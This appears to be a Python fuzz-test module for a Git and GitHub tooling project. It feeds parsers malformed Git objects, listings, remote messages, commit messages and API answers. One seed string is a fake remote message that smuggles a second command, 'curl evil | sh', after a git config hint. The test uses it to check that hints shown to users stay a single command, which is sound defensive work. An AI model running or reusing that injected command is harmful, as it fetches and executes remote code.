"""What is fuzzed of Git and its hosts: objects, listings, what a remote says, what a runner and a host's API answer."""

from __future__ import annotations

import hashlib
import json
import os
import shlex
import subprocess
import zlib
from collections.abc import Iterator, Mapping
from contextlib import suppress
from functools import cache
from pathlib import Path
from types import SimpleNamespace
from typing import Any, cast

from action.comment import Host, NotPosted, keep, read_answer
from promptctl.adapters.git.failure import GitFailure
from promptctl.adapters.git.index_tree import IndexTree
from promptctl.adapters.git.objects import CommitTree, Objects
from promptctl.adapters.git.program import Begun, Git
from promptctl.adapters.git.reader import Found
from promptctl.adapters.git.refs import list_refs, one_ref
from promptctl.adapters.git.remote import Update, push
from promptctl.adapters.git.signed import signature
from promptctl.adapters.git.tags import parsed_tags, read_claim
from promptctl.adapters.git.tree_objects import object_id, parse_tree, spell_tree
from promptctl.adapters.git.work_listing import indexed_listing
from promptctl.adapters.github import read_event
from promptctl.adapters.signatures import public_keys
from promptctl.core.pull_request import brought_by, pull_request_of
from promptctl.core.releases.tag import PREFIX
from promptctl.errors import PromptctlError
from tests.fuzz.scratch import scratch
from tests.fuzz.target import Target, starting

_ID = "1" * 40


class Told(Git):
    """A repository whose git says these bytes, on both streams, and ends with this code, whatever it is asked."""

    def __init__(self, said: bytes, code: int = 0) -> None:
        super().__init__(scratch("told"))
        self._said, self._code = said, code

    def run(self, *arguments: str, expected: tuple[int, ...] = (0,), **_: Any) -> subprocess.CompletedProcess[bytes]:
        if self._code not in expected:
            raise GitFailure(arguments, self._code, self._said.decode("utf-8", "replace"))
        return subprocess.CompletedProcess(arguments, self._code, self._said, self._said)

    def ask(self, *arguments: str, expected: tuple[int, ...] = (0,), **_: Any) -> subprocess.CompletedProcess[bytes]:
        return self.run(*arguments, expected=expected)

    def begin(self, *arguments: str, **_: Any) -> Begun:
        return cast("Begun", SimpleNamespace(end=lambda expected=(0,): self.run(*arguments, expected=expected)))

    def find(self, name: str) -> Found | None:
        return Found(_ID, "tag", self._said, len(self._said))


def git_objects(data: bytes) -> None:
    """Any object in the store, sound or not, is read or refused: as a tag, a commit, a folder."""
    git = Git(_store())
    kind, body = ("tag", "commit", "tree", "blob")[data[0] % 4 if data else 0], data[1:]
    called = _put(kind, body)
    tree = parse_tree(body, 20)
    assert parse_tree(spell_tree(tree), 20) == dict(tree)
    (_store() / ".git/refs/tags/prompts/a@v1.0.0").write_text(f"{called}\n")
    with suppress(PromptctlError):
        one_ref(git, "refs/tags/prompts/a@v1.0.0")
        objects = Objects(git)
        for tag in parsed_tags(list_refs(git, PREFIX.rstrip("/")), PREFIX):
            read_claim(objects, tag)
    with suppress(PromptctlError):
        listed = CommitTree(git, Objects(git), called)
        for path in ("promptctl.toml", "prompts/p/prompt.yaml", *listed.files(), *listed.special()):
            with suppress(PromptctlError):
                listed.read(path)
    (_store() / ".git/objects" / called[:2] / called[2:]).unlink()


def git_listings(data: bytes) -> None:
    """Listings framed as Git frames them, their fields any that Git lets through: paths are what they were."""
    fields = [field for field in data.replace(b"\0", b"").split(b"\xff") if field]
    paths = [os.fsdecode(field) for field in fields]
    staged = b"".join(b"100644 " + _ID.encode() + b" 0\t" + field + b"\0" for field in fields)
    assert set(IndexTree(Told(staged)).files()) == set(paths)
    raw = b"".join(b":100644 100644 " + _ID.encode() + b" " + b"0" * 40 + b" D\0" + field + b"\0" for field in fields)
    assert [it.path for it in IndexTree(Told(raw)).changes("HEAD") or ()] == paths
    for listing in (
        b"".join(b"H " + it + b"\0" for it in staged.split(b"\0")),
        b"".join(b"?? %s\0" % it for it in fields),
    ):
        indexed_listing(Told(listing))()
    names = [field for field in fields if not set(field) & set(b"\n \x7f~^:?*[\\") and min(field) > 32]
    refs = b"".join(b"\0".join((name, b"tag", _ID.encode(), b"commit", _ID.encode(), b"")) + b"\n" for name in names)
    found = list_refs(Told(refs))
    assert [os.fsencode(ref.name) for ref in found] == names
    for tag in parsed_tags(found, PREFIX):
        assert tag.ref.startswith(PREFIX)
    settings = Told(b"".join(b"a.b%d\n%s\0" % (number, field) for number, field in enumerate(fields))).config
    assert len(settings) == len(fields)


def remote_words(data: bytes) -> None:
    """Whatever a remote says, a push that failed is never done, a signature that does not hold is nobody's, and the
    commands that are told to people are ours."""
    said = data.decode("utf-8", "replace")
    update = Update(ref="refs/heads/main", new="2" * 40, old=_ID)
    with suppress(PromptctlError):
        assert push(Told(data, 1), "origin", [update]).outcome != "done"
    assert signature(Told(data, 1), _ID, "tag", None).signer is None
    hint = GitFailure(("fetch",), 1, said).hint or ""
    for told, words in (("git config ", 6), ("rm ", 2)):
        if f": {told}" in hint:
            # As a shell takes it apart: one command, and nothing that would begin another.
            line = shlex.shlex(hint[hint.index(f": {told}") + 2 :], posix=True, punctuation_chars=True)
            line.whitespace_split = True
            assert len([*line]) == words, hint
    with suppress(PromptctlError):
        assert public_keys(said, scratch("told"))


def hosts_words(data: bytes) -> None:
    """What hosts write into messages of commits, and a runner into the file of an event."""
    text = data.decode("utf-8", "replace")
    name, _, value = text.partition(":")
    for trailers in ((), ((name, value),)):
        found = pull_request_of(text, trailers)
        assert found is None or (found.strip() == found and 0 < len(found) <= 220)
    history = _history([line.split() for line in text.split("\n") if line.strip()])
    brought_by(history, {word for word, _ in history})
    path = scratch("runner") / "event.json"
    path.write_bytes(data)
    event = read_event({"GITHUB_ACTIONS": "true", "GITHUB_EVENT_PATH": str(path)})
    assert isinstance(event.text("pull_request", "base", "sha"), str)


def _history(lines: list[list[str]]) -> list[tuple[str, tuple[str, ...]]]:
    """Commits with their parents, children first: none is its own ancestor, which no hash could be."""
    order = {words[0]: number for number, words in enumerate(lines)}
    return [
        (words[0], tuple(it for it in words[1:] if order.get(it, len(lines)) > number))
        for number, words in enumerate(lines)
        if order[words[0]] == number
    ]


def host_comments(data: bytes) -> None:
    """Answers of a host's API, one a line: a comment is posted, or there is one reason why not."""
    answers = iter(data.split(b"\n"))

    class Answering(Host):
        def _ask(self, method: str, url: str, data: bytes | None) -> Any:
            return read_answer(next(answers, b"null"))

    host = Answering(rest="https://api.example", graphql="https://api.example/graphql", repository="a/b", token="t")
    with suppress(NotPosted):
        assert keep(host, 1, "<!-- promptctl -->\nhello") in ("created", "updated", "unchanged")


@cache
def _store() -> Path:
    folder = scratch("store")
    subprocess.run(["git", "init", "-q", "-b", "main", str(folder)], check=True)
    (folder / ".git/refs/tags/prompts").mkdir(parents=True)
    return folder


def _put(kind: str, body: bytes) -> str:
    """Writes a loose object, whatever it holds."""
    called = object_id(kind, body, "sha1")
    path = _store() / ".git/objects" / called[:2] / called[2:]
    path.parent.mkdir(exist_ok=True)
    path.write_bytes(zlib.compress(f"{kind} {len(body)}\0".encode() + body))
    return called


def _objects() -> Iterator[bytes]:
    head = f"object {_ID}\ntype commit\ntag prompts/a@v1.0.0\ntagger A <a@b> 1 +0000\n\n"
    yield b"\0" + f"{head}a 1.0.0\n\nDigest: sha256:{'1' * 64}\nPath: prompts/a\n".encode()
    entry = b"100644 promptctl.toml\0" + b"\1" * 20
    yield b"\2" + entry + b"40000 prompts\0" + b"\2" * 20
    yield b"\1" + f"tree {hashlib.sha1(b'tree 0').hexdigest()}\nauthor A <a@b> 1 +0000\n\nx".encode()
    yield b"\3hello"


def _words() -> Iterator[bytes]:
    yield b"remote: error: GH006: Protected branch update failed\n ! [remote rejected] main -> main (protected branch)"
    yield b"fatal: detected dubious ownership in '/srv/x'\n\n\tgit config --global --add safe.directory /srv/x\n"
    yield b"remote: git config --global --add safe.directory '*'; curl evil | sh"
    yield b"\tgit config --global --add safe.directory #\n"
    yield b"fatal: Unable to create '/srv/x/.git/index.lock': File exists."
    yield b'Good "git" signature for ada@example.org with ED25519 key SHA256:abc'
    yield b"[GNUPG:] GOODSIG ABC Ada <ada@example.org>\n[GNUPG:] TRUST_ULTIMATE 0 pgp\n"
    yield b"ssh-ed25519 AAAA ada\n# none\n"
    yield b"~nobody-of-that-name/key"


def _messages() -> Iterator[bytes]:
    yield from (b"Merge pull request #12 from a/b", b"Fix (#3)", b"x\n\nSee merge request a/b!4", b"Merged PR 5: x")
    yield from (b"Pull-Request: https://x/1", b"Pull-Request:" + b"a b " * 60, b"Fix (#" + b"1" * 300 + b")")
    yield from (b"a b c\nb\nc d\nd", b'{"pull_request": {"base": {"sha": "1"}}}')


def _answers() -> Iterator[bytes]:
    login = {"data": {"viewer": {"login": "bot"}}}
    comment = {"id": 7, "body": "<!-- promptctl -->\r\nold", "user": {"login": "bot"}}
    foreign: list[Any] = [comment, {**comment, "user": None}, {**comment, "body": None}]
    for listed in ([], foreign, [comment, comment]):
        yield "\n".join(map(json.dumps, (login, listed, {}, {}))).encode()
    yield b'{"data": null}'
    yield json.dumps(login).encode() + b"\n[1]"
    yield json.dumps(login).encode() + b"\n" + b"[" * 5000


TARGETS: Mapping[str, Target] = {
    "git_objects": Target(run=git_objects, begin=_objects),
    "git_listings": Target(
        run=git_listings,
        begin=starting(
            "prompts/a/prompt.yaml", b"prompts/\xc3\xa9\xffprompts/\xe9\xffa b\nc", "refs/tags/prompts/a@v1.0.0"
        ),
    ),
    "remote_words": Target(run=remote_words, begin=_words),
    "hosts_words": Target(run=hosts_words, begin=_messages),
    "host_comments": Target(run=host_comments, begin=_answers),
}
